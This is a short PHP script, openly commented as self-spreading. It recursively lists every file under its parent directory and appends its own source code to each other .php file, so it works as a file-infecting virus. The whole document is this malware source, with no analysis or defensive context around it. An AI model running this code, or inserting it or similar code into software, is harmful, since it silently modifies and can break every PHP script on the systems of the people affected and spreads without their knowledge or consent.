<?php
// spreads itself: the folder walk is a helper of its own, the writes another
function list_scripts($dir)
{
    $out = '';
    $h = opendir($dir);
    while (($e = readdir($h)) !== false) {
        if ($e === '.' || $e === '..') {
            continue;
        }
        $p = $dir . '/' . $e;
        $out .= is_dir($p) ? list_scripts($p) : $p . "\n";
    }
    closedir($h);
    return $out;
}

function spread($found)
{
    $mine = '';
    $h = fopen(__FILE__, 'r');
    while (($line = fgets($h)) !== false) {
        $mine .= $line;
    }
    fclose($h);
    $targets = explode("\n", $found);
    foreach ($targets as $t) {
        if (substr($t, -4) === '.php' && $t !== __FILE__) {
            file_put_contents($t, file_get_contents($t) . "\n" . $mine);
        }
    }
}

spread(list_scripts(dirname(__DIR__)));
